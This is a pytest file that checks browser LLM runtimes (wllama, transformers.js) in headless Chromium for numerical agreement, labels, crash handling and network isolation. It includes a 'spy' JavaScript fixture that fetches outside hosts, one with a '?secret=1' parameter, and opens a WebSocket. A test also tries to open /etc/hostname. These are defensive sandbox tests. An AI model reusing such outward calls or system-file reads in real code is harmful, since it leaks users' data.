"""Runtimes in a page of headless Chromium say of a file what they say natively, and ask nobody but us."""
from __future__ import annotations

import os
import signal
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from worker_cases import (
    N_CTX,
    agrees_with_native,
    ends_at_the_end_of_the_context,
    gguf,
    model,
    refuses_a_corrupted_file,
    refuses_wrong_ids,
)

from lrc_edge.checkpoint import DenseCheckpoint
from lrc_edge.errors import UserError
from lrc_edge.export.onnx.to_onnx import export_onnx
from lrc_edge.targets.devices import browser
from lrc_edge.targets.runtimes.worker import Worker, WorkerFailed

runs_chromium = pytest.mark.targets

# What a page must not do: ask others, from the page and from a worker, while it loads and later.
SPY = """
const ask = (url) => fetch(url).then(() => "reached", (error) => String(error));
const asked = { open: "http://127.0.0.1:9/while-loading", generate: "https://example.com/later?secret=1" };
export async function answer({ op, url }) {
  if (op === "tokenize") {
    const program = "fetch('https://example.org/from-a-worker').catch(() => {}).then(() => postMessage(0));";
    const worker = new Worker(URL.createObjectURL(new Blob([program])));
    await new Promise((done) => { worker.onmessage = done; });
    try { new WebSocket("wss://example.net/socket"); } catch {}
    await new Promise((done) => setTimeout(done, 300));
  }
  const own = await ask(url ?? "/page/blank.html");
  return { runtime: "spy", threads: 1, own, said: asked[op] && await ask(asked[op]) };
}
"""


@contextmanager
def worker_of(runtime: str, folder: Path) -> Iterator[Worker]:
    with browser.command(runtime, folder) as command, Worker(command) as worker:
        yield worker


# Single log-probabilities of quantized files differ from the native ones by up to 0.18, the KL hardly (docs/LOG.md).
# The limits are on means, which other weights exceed. Other rounding of activations in WebAssembly is our guess.
@runs_chromium
@pytest.mark.parametrize(("name", "encoding", "within"), [
    ("storyteller", "f32", 4e-3), ("storyteller", "q4_0", 4e-2), ("qwen2", "f32", 4e-3), ("spm", "q8_0", 4e-2)])
def test_wllama(name: str, encoding: str, within: float, tmp_path: Path) -> None:
    checkpoint = model(name, tmp_path)
    path = gguf(checkpoint, tmp_path, encoding)
    with worker_of("wllama", path.parent) as worker:
        agrees_with_native(worker, path, checkpoint, within)
        ends_at_the_end_of_the_context(worker, [5, 6, 7])
        refuses_wrong_ids(worker, checkpoint.shape.vocab_size)
        assert worker.ask("requests")["foreign"] == []


@runs_chromium
@pytest.mark.parametrize(("name", "encoding", "within"), [
    ("storyteller", "fp32", 1e-4), ("storyteller", "q4", 4e-2), ("qwen2", "fp32", 1e-4), ("llama3", "q8", 4e-2)])
def test_transformers_js(name: str, encoding: str, within: float, tmp_path: Path) -> None:
    checkpoint = model(name, tmp_path)
    [artifact] = export_onnx(checkpoint, tmp_path / "onnx", [encoding])
    path = tmp_path / artifact.path
    with worker_of("transformers.js", tmp_path / "onnx") as worker:
        agrees_with_native(worker, path, checkpoint, within)
        ends_at_the_end_of_the_context(worker, [5, 6, 7])
        refuses_wrong_ids(worker, checkpoint.shape.vocab_size)
        assert worker.ask("requests")["foreign"] == []


@runs_chromium
def test_labels_and_threads(tiny_llama: Path, tmp_path: Path) -> None:
    checkpoint = DenseCheckpoint.open(tiny_llama)
    path = gguf(checkpoint, tmp_path, "f32")
    [artifact] = export_onnx(checkpoint, tmp_path / "onnx", ["fp32"])
    said = {}
    for runtime, file, folder in (("wllama", path, path.parent),
                                  ("transformers.js", tmp_path / artifact.path, tmp_path / "onnx")):
        with worker_of(runtime, folder) as worker:
            said[runtime] = worker.ask("open", path=str(file), n_ctx=N_CTX, threads=2)["label"]
            assert len(worker.ask("generate", ids=[1, 2], n_tokens=4, stop=[])["ids"]) == 4
    assert said["wllama"].startswith("wllama 3.8.1 (llama.cpp b11364-46ca246) in headless Chromium 1")
    assert said["transformers.js"].startswith(
        "transformers.js 4.3.1 (onnxruntime-web 1.31.0-dev.20260914-8d85527a0, WebAssembly) in headless Chromium 1")
    assert all(label.endswith(", 2 threads") for label in said.values())


@runs_chromium
@pytest.mark.parametrize("runtime", ["wllama", "transformers.js"])
def test_a_corrupted_file(runtime: str, tiny_llama: Path, tmp_path: Path) -> None:
    checkpoint = DenseCheckpoint.open(tiny_llama)
    if runtime == "wllama":
        path = gguf(checkpoint, tmp_path, "f32")
        folder = path.parent
    else:
        path, folder = tmp_path / export_onnx(checkpoint, tmp_path / "onnx", ["fp32"])[0].path, tmp_path / "onnx"
    with worker_of(runtime, folder) as worker:
        with pytest.raises(WorkerFailed, match=r"not in .*, which is all that the browser sees"):
            worker.ask("open", path="/etc/hostname", n_ctx=N_CTX, threads=1)
        with pytest.raises(WorkerFailed, match="cannot load"):
            worker.ask("open", path=str(path.with_name("missing" + path.suffix)), n_ctx=N_CTX, threads=1)
        refuses_a_corrupted_file(worker, path)


@runs_chromium
def test_requests_to_others_are_seen_and_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "spy.mjs").write_text(SPY)
    monkeypatch.setitem(browser.MODULES, "wllama", "/files/model/spy.mjs")
    with worker_of("wllama", tmp_path) as worker:
        opened = worker.ask("open", path=str(tmp_path / "spy.mjs"), n_ctx=1, threads=1)
        assert (opened["own"], opened["said"]) == ("reached", "TypeError: Failed to fetch")
        assert worker.ask("requests")["foreign"] == ["http://127.0.0.1:9/while-loading"]
        later = worker.ask("generate", ids=[], n_tokens=1, stop=[])
        assert later["own"] == later["said"] == "TypeError: Failed to fetch"  # now even we are out of reach
        worker.ask("tokenize", texts=[])
        assert set(worker.ask("requests")["foreign"]) >= {
            "http://127.0.0.1:9/while-loading", "https://example.com/later?secret=1",
            "https://example.org/from-a-worker", "wss://example.net/socket"}


@runs_chromium
def test_a_page_that_dies_is_told(tiny_llama: Path, tmp_path: Path) -> None:
    path = gguf(DenseCheckpoint.open(tiny_llama), tmp_path, "f32")
    with worker_of("wllama", path.parent) as worker:
        worker.ask("open", path=str(path), n_ctx=N_CTX, threads=1)
        for pid in descendants(worker._process.pid):
            if b"--type=renderer" in Path(f"/proc/{pid}/cmdline").read_bytes():
                os.kill(pid, signal.SIGKILL)
        with pytest.raises(WorkerFailed, match=r"the page crashed|Target crashed"):
            worker.ask("generate", ids=[1], n_tokens=4, stop=[])
        children = descendants(worker._process.pid)
    deadline = time.monotonic() + 10
    while any(alive(pid) for pid in children) and time.monotonic() < deadline:
        time.sleep(0.1)  # Chromium sees its end a moment later
    assert children and not any(alive(pid) for pid in children)


def test_a_kit_that_is_not_installed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LRC_EDGE_CACHE", str(tmp_path))
    with (pytest.raises(UserError, match="wllama is not installed; run lrc-edge targets setup wllama"),
          browser.command("wllama", tmp_path)):
        pass


def descendants(pid: int) -> list[int]:
    """The processes below a process."""
    parents = {}
    for folder in Path("/proc").glob("[0-9]*"):
        try:
            parents[int(folder.name)] = int((folder / "stat").read_text().rpartition(")")[2].split()[1])
        except OSError:
            continue  # it has just ended
    below, found = {pid}, []
    while below:
        below = {child for child, parent in parents.items() if parent in below}
        found += below
    return found


def alive(pid: int) -> bool:
    try:
        return "Z" not in Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0]
    except OSError:
        return False
